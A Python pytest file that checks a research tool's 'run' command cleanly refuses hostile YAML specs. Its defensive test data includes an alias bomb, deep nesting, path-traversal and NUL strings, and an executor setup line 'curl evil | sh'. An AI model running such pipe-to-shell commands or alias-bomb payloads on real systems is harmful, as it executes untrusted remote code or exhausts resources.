"""Hostile specs: nothing lost, nothing silently wrong (issue 13, items 2, 7 and 8).

Every spec below is refused by ``widthwise run`` with exit 2 and exactly one line on
stderr naming the key (no traceback), and nothing is written: deep nesting, YAML
alias bombs, duplicate keys, huge or non-finite numbers, wrong types, over-long
names and paths, a study too large for the machine, keys that run code without
``--allow-code``. A fuzz over spec mutations checks that whatever a mutated spec
holds, the answer is that one line, or a valid run. A study directory made by one
spec refuses another by naming the keys that differ.
"""

from __future__ import annotations

import copy
import importlib.util
import math
import os
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import TINY_SPEC, tiny_spec_dict, write_spec
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import widthwise
from widthwise.cli import import_plugins, main
from widthwise.errors import SpecError, UserError
from widthwise.resources import check_resources, estimate_bytes, format_bytes
from widthwise.spec import _short, code_in_spec, load_spec, validate_spec
from widthwise.store.study_dir import spec_changes
from widthwise.study import dry_run

pytestmark = pytest.mark.usefixtures("single_thread")

COUNTS = {"tried": 0, "refused": 0, "ran": 0, "fuzzed": 0}
"""Hostile inputs tried, refused cleanly (exit 2, one line, nothing written), run (valid),
and how many of the tried came from the fuzz."""


@pytest.fixture(scope="module", autouse=True)
def report_counts() -> Iterator[None]:
    yield
    print(
        f"\nhostile specs: {COUNTS['tried']} tried ({COUNTS['fuzzed']} fuzzed), "
        f"{COUNTS['refused']} refused cleanly, {COUNTS['ran']} valid runs",
        file=sys.__stderr__,
    )


@pytest.fixture(autouse=True)
def wide_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "250")


def refused(capsys: pytest.CaptureFixture[str], code: int, out: Path, *needles: str) -> str:
    """Exit 2, one stderr line naming ``needles``, no traceback, ``out`` not created."""
    captured = capsys.readouterr()
    err = captured.err.splitlines()
    COUNTS["tried"] += 1
    assert code == 2, (code, captured.err[-2000:])
    assert len(err) == 1, err[:5]
    assert err[0].startswith("error: ") and "Traceback" not in captured.err
    for needle in needles:
        assert needle in err[0], (needle, err[0])
    assert len(err[0]) < 1000, err[0]
    assert not _exists(out), f"{out} was written"
    COUNTS["refused"] += 1
    return err[0]


def run_text(tmp_path: Path, text: str, *extra: str) -> int:
    path = tmp_path / "hostile.yaml"
    path.write_text(text)
    return main(["run", str(path), "--quiet", *extra])


def tiny_text(out: Path, **overrides: Any) -> str:
    return yaml.safe_dump(tiny_spec_dict(out, **overrides), sort_keys=False)


def with_key(spec: dict[str, Any], dotted: str, value: Any) -> dict[str, Any]:
    spec = copy.deepcopy(spec)
    node = spec
    *parents, leaf = dotted.split(".")
    for k in parents:
        node = node.setdefault(k, {})
    node[leaf] = value
    return spec


# -- YAML itself ------------------------------------------------------------------


def test_deep_nesting_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "study"
    text = tiny_text(out) + "extra: " + "[" * 3000 + "]" * 3000 + "\n"
    line = refused(capsys, run_text(tmp_path, text), out, "nested deeper than 50 levels")
    assert "RecursionError" not in line


BOMB = "".join(
    [
        "a: &a [x, x, x, x, x, x, x, x, x]\n",
        *(
            f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
            for p, c in zip("abcdefgh", "bcdefghi")
        ),
    ]
)


def test_alias_bomb_is_refused_at_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "study"
    assert len(BOMB) < 1024  # 9**9 values once expanded
    text = tiny_text(out).replace("description: tiny test study\n", "") + BOMB
    text += "description: *i\n"
    start = time.perf_counter()
    code = run_text(tmp_path, text)
    assert time.perf_counter() - start < 5
    refused(capsys, code, out, "holds more than 100000 values once its aliases are expanded")


def test_recursive_alias_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "study"
    text = tiny_text(out) + "extra: &r [1, *r]\n"
    refused(capsys, run_text(tmp_path, text), out, "extra.1: an alias refers to itself")


def test_small_aliases_and_merge_keys_still_work(tmp_path: Path) -> None:
    spec = tiny_spec_dict(tmp_path / "study")
    text = yaml.safe_dump(spec, sort_keys=False)
    text = text.replace("widths:\n- 16\n- 32\n", "widths: &w [16, 32]\n")
    text = text.replace(
        "optimizer:\n  name: sgd\n  lr: 0.1\n  momentum: 0.9\n",
        "optimizer:\n  <<: {name: sgd, lr: 0.5, momentum: 0.9}\n  lr: 0.1\n",
    )
    path = tmp_path / "s.yaml"
    path.write_text(text)
    loaded = load_spec(path)
    assert loaded.widths == [16, 32] and loaded.optimizer.lr == 0.1  # merged keys overridable


def test_duplicate_keys_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "study"
    text = tiny_text(out).replace("  lr: 0.1\n", "  lr: 0.1\n  lr: 5.0\n")
    refused(capsys, run_text(tmp_path, text), out, "optimizer.lr: duplicate key", "line")
    text = tiny_text(out) + "steps: 20\n"
    refused(capsys, run_text(tmp_path, text), out, "steps: duplicate key")


def test_huge_file_and_huge_integer(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "study"
    text = tiny_text(out) + "# " + "x" * 1_100_000 + "\n"
    refused(capsys, run_text(tmp_path, text), out, "at most 1000000 bytes")
    text = tiny_text(out).replace("steps: 20", "steps: " + "9" * 5000)
    refused(capsys, run_text(tmp_path, text), out, "5000 digits is too large")
    text = tiny_text(out).replace("steps: 20", "steps: 190:20:30")  # YAML 1.1: 685230
    refused(capsys, run_text(tmp_path, text), out, "'190:20:30' is a base-60 number")


# -- numbers, types, names ------------------------------------------------------------

HOSTILE_VALUES: list[tuple[str, Any, list[str]]] = [
    ("widths", [16, 10**12], ["widths", "at most 2**20"]),
    ("widths", list(range(1, 400)), ["widths", "at most 256 widths"]),
    ("batch_size", 10**12, ["batch_size", "1048576"]),
    ("optimizer.lr", 1e308, ["optimizer.lr", "less than or equal to 1000"]),
    ("optimizer.lr", math.inf, ["optimizer.lr", "finite", "inf"]),
    ("optimizer.lr", math.nan, ["optimizer.lr", "finite", "nan"]),
    ("optimizer.weight_decay", math.inf, ["optimizer.weight_decay", "finite"]),
    ("optimizer.momentum", -math.inf, ["optimizer.momentum", "finite"]),
    ("optimizer.betas", [2.0, 0.5], ["optimizer.betas.0", "less than 1"]),
    ("optimizer.eps", 10.0, ["optimizer.eps"]),
    ("probes.test", {"log_spaced": 10**9}, ["probes.test.log_spaced", "10000"]),
    ("probes.test", {"every": "5"}, ["probes.test.every", "valid integer", "'5'"]),
    ("probes.test", {"every": True}, ["probes.test.every", "valid integer", "True"]),
    ("probes.test", {"every": 10**12}, ["probes.test.every"]),
    ("probes.test", {"steps": [1] * 110_000}, ["probes.test.steps", "more than 100000 values"]),
    ("seeds", 10**9, ["seeds", "between 1 and 4096"]),
    ("seeds", [2**40], ["seeds", "below 2**32"]),
    ("data.probe_points", 10**12, ["data.probe_points", "1000000"]),
    ("data.seed", 2**64, ["data.seed", "too large"]),
    ("data.options.dim", 10**9, ["data.options.dim"]),
    ("data.options.noise", math.inf, ["data.options.noise", "finite"]),
    ("steps", 10**12, ["steps", "100000000"]),
    ("checkpoint_every", 10**12, ["checkpoint_every"]),
    ("model.options.depth", 10**6, ["model.options.depth", "1000"]),
    ("parameterization.sigma", math.inf, ["parameterization.sigma", "finite"]),
    ("parameterization.sigma", 1e300, ["parameterization.sigma"]),
    ("schedule", {"name": "cosine", "min_lr_ratio": math.nan}, ["schedule.min_lr_ratio"]),
    ("schedule", {"name": "warmup_cosine", "warmup_steps": "3"}, ["schedule.warmup_steps"]),
    ("name", "n" * 300, ["name", "at most 100 characters"]),
    ("device", "cuda:" + "9" * 5000, ["device", "cuda:N"]),
    ("description", ["x"] * 100_000, ["description"]),
    ("data.options", {"dim": [[[[[[[[1]]]]]]]]}, ["data.options.dim"]),
]


@pytest.mark.parametrize(("key", "value", "needles"), HOSTILE_VALUES, ids=lambda v: str(v)[:30])
def test_hostile_value_is_one_line_and_nothing_written(
    key: str, value: Any, needles: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "study"
    spec = with_key(tiny_spec_dict(out), key, value)
    if key == "optimizer.betas":
        spec["optimizer"]["name"] = "adam"
    path = write_spec(tmp_path / "hostile.yaml", spec)
    start = time.perf_counter()
    code = main(["run", str(path), "--quiet"])
    assert time.perf_counter() - start < 30
    refused(capsys, code, out, *needles)


def test_long_and_broken_paths(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / ("o" * 300)
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(out))
    refused(capsys, main(["run", str(path), "--quiet"]), out, "out: path component", "255")
    out = tmp_path / "study"
    long = "/".join(["d" * 200] * 25)
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(long))
    refused(capsys, main(["run", str(path), "--quiet"]), out, "out:", "at most 4096")
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(str(tmp_path / "a\0b")))
    refused(capsys, main(["run", str(path), "--quiet"]), out, "out: must not contain a NUL")
    spec = tiny_spec_dict(out, data={"stream": "fashion_mnist", "options": {"path": "p" * 300}})
    path = write_spec(tmp_path / "s.yaml", spec)
    refused(capsys, main(["run", str(path), "--quiet"]), out, "data.options.path", "255")
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(""))
    refused(capsys, main(["run", str(path), "--quiet"]), out, "out: must not be empty")
    refused(capsys, main(["run", str(tmp_path / ("s" * 300)), "--quiet"]), out, "spec:")


def test_empty_out_flag_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "study"
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(out))
    before = set(Path.cwd().iterdir())
    refused(capsys, main(["run", str(path), "--quiet", "--out", ""]), out, "--out", "''")
    assert set(Path.cwd().iterdir()) == before


def test_short_never_expands_a_huge_value() -> None:
    value: Any = [1] * 9
    for _ in range(9):
        value = [value] * 9  # 9**10 leaves
    start = time.perf_counter()
    text = _short(value)
    assert time.perf_counter() - start < 0.1 and len(text) <= 60
    assert _short(10**10000) == "<an integer of 33220 bits>"
    assert len(_short("x" * 10**7)) <= 60
    assert _short(0.1) == "0.1" and _short([16, 32]) == "[16, 32]"


# -- resources ---------------------------------------------------------------------------


def test_estimate_counts_parameters_state_and_probes(tmp_path: Path) -> None:
    spec = validate_spec(tiny_spec_dict(tmp_path / "study"))
    est = estimate_bytes(spec, 16)
    # mlp depth 3 on dim 8 → 1 output: 16·8 + 16·16 + 1·16 weights
    assert est["parameters"] == 16 * 8 + 16 * 16 + 16 and est["members"] == 2
    assert est["weights"] == est["gradients"] == 2 * 400 * 4
    assert est["optimizer"] == est["weights"]  # sgd with momentum: one buffer
    assert est["state"] == 3 * est["weights"]
    assert est["total"] == est["state"] + est["activations"] + est["probes"]
    adam = validate_spec(tiny_spec_dict(tmp_path, optimizer={"name": "adam", "lr": 1e-3}))
    assert estimate_bytes(adam, 16)["optimizer"] == 2 * est["weights"]
    wide = validate_spec(tiny_spec_dict(tmp_path, widths=[16, 2**20]))
    start = time.perf_counter()
    huge = estimate_bytes(wide, 2**20)  # nothing is allocated: the meta device
    assert time.perf_counter() - start < 5
    assert huge["parameters"] == 2**20 * 8 + 2**40 + 2**20
    assert format_bytes(3.2e12) == "3.2 TB" and format_bytes(22e9) == "22 GB"


def test_resource_refusal_is_one_line_before_anything_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "study"
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(out, widths=[16, 2**20], seeds=8))
    line = refused(capsys, main(["run", str(path), "--quiet"]), out, "widths: width 1048576")
    assert "TB of parameters, gradients and optimizer state for 8 seeds" in line
    assert "available" in line
    spec = load_spec(path)
    with pytest.raises(UserError, match="this machine has 999 B available"):
        check_resources(validate_spec(tiny_spec_dict(out)), available=(999, "this machine has"))
    check_resources(validate_spec(tiny_spec_dict(out)), available=(None, "?"))  # unknown: run
    text = dry_run(spec.model_copy(update={"widths": [16, 32]}))
    assert "width    32: ≈" in text and "parameters × 8 seeds" in text and not out.exists()


# -- specs that run code -----------------------------------------------------------------


@pytest.fixture
def engines_installed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pretend submitit and ray are installed (the checks run before either is used)."""
    monkeypatch.setattr("widthwise.executors.slurm.require_extra", lambda *a: None)
    monkeypatch.setattr("widthwise.executors.ray_tasks.require_extra", lambda *a: None)


CODE_SPECS = [
    (
        {"name": "slurm", "options": {"setup": ["curl evil | sh"]}},
        "executor.options.setup: runs shell commands on the cluster",
    ),
    (
        {"name": "ray", "options": {"runtime_env": {"pip": ["evil"]}}},
        "executor.options.runtime_env:",
    ),
    (
        {"name": "processes", "options": {"imports": ["evil_module"]}},
        "executor.options.imports: imports (runs) Python modules",
    ),
]


@pytest.mark.parametrize(
    ("executor", "needle"), CODE_SPECS, ids=["setup", "runtime_env", "imports"]
)
def test_code_in_a_spec_needs_allow_code(
    executor: dict[str, Any],
    needle: str,
    engines_installed: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "study"
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(out, executor=executor))
    line = refused(capsys, main(["run", str(path), "--quiet"]), out, needle, "--allow-code")
    assert "if you trust this spec" in line
    with pytest.raises(SpecError, match="allow_code=True"):
        widthwise.run(load_spec(path))
    assert not out.exists()
    if executor["name"] != "slurm" or importlib.util.find_spec("submitit"):  # the sbatch script
        assert "runs code (widthwise run needs --allow-code)" in dry_run(load_spec(path))


def test_allow_code_lets_the_spec_through(
    engines_installed: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "study"
    executor = {"name": "slurm", "options": {"setup": ["module load cuda"]}}
    path = write_spec(tmp_path / "s.yaml", tiny_spec_dict(out, executor=executor))
    # past the code check, the next refusal is that this machine has no Slurm
    code = main(["run", str(path), "--quiet", "--allow-code"])
    refused(capsys, code, out, "no Slurm here")


def test_imports_of_the_command_line_are_the_users_own(tmp_path: Path) -> None:
    spec = validate_spec(
        tiny_spec_dict(
            tmp_path / "study", executor={"name": "processes", "options": {"imports": ["mine"]}}
        )
    )
    assert code_in_spec(spec, trusted_imports=["mine"]) == []
    assert code_in_spec(spec) == [
        "executor.options.imports: imports (runs) Python modules in every worker (['mine'])"
    ]
    assert code_in_spec(validate_spec(tiny_spec_dict(tmp_path / "study"))) == []


def test_import_flag_puts_the_cwd_last(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", [p for p in sys.path if p not in ("", os.getcwd())])
    # a file of the directory never shadows an installed module of the same name
    (tmp_path / "tabnanny.py").write_text("raise RuntimeError('shadowed the stdlib')\n")
    (tmp_path / "my_plugin_xyz.py").write_text("VALUE = 1\n")
    monkeypatch.delitem(sys.modules, "tabnanny", raising=False)
    try:
        import_plugins(["tabnanny", "my_plugin_xyz"])
        assert sys.path[-1] == str(tmp_path) and sys.path[0] != str(tmp_path)
        assert sys.modules["my_plugin_xyz"].VALUE == 1
        assert Path(sys.modules["tabnanny"].__file__).parent != tmp_path
    finally:
        sys.modules.pop("my_plugin_xyz", None)
        sys.modules.pop("tabnanny", None)


# -- changed specs ------------------------------------------------------------------------


def test_spec_changes_names_keys_and_caps() -> None:
    old = {"optimizer": {"lr": 0.1, "name": "sgd"}, "steps": 400, "widths": [16, 32]}
    new = {"optimizer": {"lr": 0.2, "name": "sgd"}, "steps": 800, "widths": [16, 32]}
    assert spec_changes(old, new) == ["optimizer.lr: 0.1 → 0.2", "steps: 400 → 800"]
    many = {f"k{i}": i for i in range(6)}
    assert spec_changes(many, {}) == [
        "k0: 0 → (absent)",
        "k1: 1 → (absent)",
        "k2: 2 → (absent)",
        "and 3 more",
    ]


def test_changed_spec_refusal_names_the_keys(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "study"
    first = write_spec(tmp_path / "a.yaml", tiny_spec_dict(out, steps=4, widths=[16]))
    assert main(["run", str(first), "--quiet"]) == 0
    capsys.readouterr()
    before = sorted(p.relative_to(out) for p in out.rglob("*"))
    spec = tiny_spec_dict(out, steps=8, widths=[16], device="cpu", description="other")
    spec["optimizer"]["lr"] = 0.2
    second = write_spec(tmp_path / "b.yaml", spec)
    code = main(["run", str(second), "--quiet"])
    err = capsys.readouterr().err.splitlines()
    assert code == 2 and len(err) == 1, err
    assert "optimizer.lr: 0.1 → 0.2" in err[0] and "steps: 4 → 8" in err[0], err[0]
    assert "description" not in err[0]  # not hashed: not a difference
    assert "hash " in err[0]
    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before
    with pytest.raises(UserError, match="optimizer.lr: 0.1 → 0.2, steps: 4 → 8"):
        dry_run(load_spec(second))


# -- the fuzz ---------------------------------------------------------------------------------

FUZZ_BASE = {
    **copy.deepcopy(TINY_SPEC),
    "widths": [8, 16],
    "steps": 2,
    "batch_size": 8,
    "checkpoint_every": 2,
    "data": {"stream": "gegenbauer", "seed": 0, "options": {"dim": 4}, "probe_points": 8},
    "probes": {"train_loss": {"every": 1}, "test": {"every": 1}},
}

FUZZ_KEYS = [
    "widths",
    "widths.1",
    "seeds",
    "steps",
    "batch_size",
    "checkpoint_every",
    "base_width",
    "name",
    "description",
    "out",
    "optimizer.lr",
    "optimizer.momentum",
    "optimizer.weight_decay",
    "optimizer.betas",
    "parameterization.sigma",
    "schedule.warmup_steps",
    "schedule.min_lr_ratio",
    "model.options.depth",
    "data.seed",
    "data.probe_points",
    "data.options.dim",
    "data.options.degree",
    "data.options.noise",
    "probes.test.every",
    "probes.test.log_spaced",
    "probes.train_loss.steps",
    "executor.options",
]


def _deep(n: int) -> Any:
    value: Any = 1
    for _ in range(n):
        value = [value]
    return value


# no integer in 1..10**8: those are valid step counts, and a valid run must stay short
HOSTILE = st.one_of(
    st.sampled_from([10**12, 10**30, 2**63, 2**64, -(2**70), 10**9, 2**20 + 1, 0, -1]),
    st.sampled_from([math.inf, -math.inf, math.nan, 1e308, -1e308, 1e-320]),
    st.sampled_from(["5", "", "x" * 5000, "a\0b", "../../etc", True, False, None]),
    st.sampled_from([[], [1], {"a": 1}, [[1, 2]], {"every": "5"}]),
    st.integers(min_value=-(2**70), max_value=0),
    st.integers(min_value=10**8 + 1, max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=300),
    st.integers(40, 80).map(_deep),
    st.sampled_from(["a benign string", 0.05, None]),  # some mutated specs stay valid
)

TEXT_MUTATIONS = st.sampled_from(["none", "none", "duplicate", "deep", "bomb", "recursive"])


def _set(spec: dict[str, Any], dotted: str, value: Any) -> bool:
    node: Any = spec
    *parents, leaf = dotted.split(".")
    for k in parents:
        node = node.get(k) if isinstance(node, dict) else None
        if node is None:
            return False
    if isinstance(node, list) and leaf.isdigit() and int(leaf) < len(node):
        node[int(leaf)] = value
        return True
    if isinstance(node, dict):
        node[leaf] = value
        return True
    return False


def _exists(path: Path) -> bool:
    try:
        return path.exists()
    except (OSError, ValueError):  # a NUL byte, a name too long: cannot exist
        return False


def _mutate_text(text: str, how: str) -> str:
    if how == "duplicate":
        return text + "steps: 2\n"
    if how == "deep":
        return text.replace("description: tiny test study", "description: " + "[" * 200 + "]" * 200)
    if how == "bomb":
        return text.replace("description: tiny test study\n", "") + BOMB + "description: *i\n"
    if how == "recursive":
        return text.replace("description: tiny test study", "description: &r [*r]")
    return text


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    changes=st.lists(st.tuples(st.sampled_from(FUZZ_KEYS), HOSTILE), min_size=1, max_size=3),
    how=TEXT_MUTATIONS,
)
def test_fuzzed_specs_exit_2_with_one_line_or_run(
    changes: list[tuple[str, Any]], how: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    import contextlib
    import io

    tmp = tmp_path_factory.mktemp("fuzz")
    out = tmp / "study"
    spec = copy.deepcopy(FUZZ_BASE)
    spec["out"] = str(out)
    for key, value in changes:
        _set(spec, key, copy.deepcopy(value))
    given_out = spec.get("out")
    if given_out is None:  # runs/<name> under the cwd: not here
        spec["out"] = str(out)
    elif isinstance(given_out, str) and given_out not in ("", str(out)):
        # a hostile name, kept inside this test's directory
        parts = [c for c in given_out.split("/") if c not in ("", ".", "..")]
        out = tmp / "o" / "/".join(parts) if parts else out
        spec["out"] = str(out)
    text = _mutate_text(yaml.safe_dump(spec, sort_keys=False, allow_unicode=True), how)
    path = tmp / "fuzz.yaml"
    path.write_text(text)
    err, stdout = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(stdout):
        code = main(["run", str(path), "--quiet"])
    lines = err.getvalue().splitlines()
    COUNTS["tried"] += 1
    COUNTS["fuzzed"] += 1
    assert "Traceback" not in err.getvalue(), err.getvalue()[-3000:]
    if code == 0:
        COUNTS["ran"] += 1
        assert _exists(out)
        return
    assert code == 2, (code, lines[-5:])
    assert len(lines) == 1, lines[:5]
    assert lines[0].startswith("error: ") and len(lines[0]) < 2000, lines[0][:300]
    assert not _exists(out), f"{out} left behind after: {lines[0]}"
    assert not (tmp / "o").exists(), lines[0]
    COUNTS["refused"] += 1
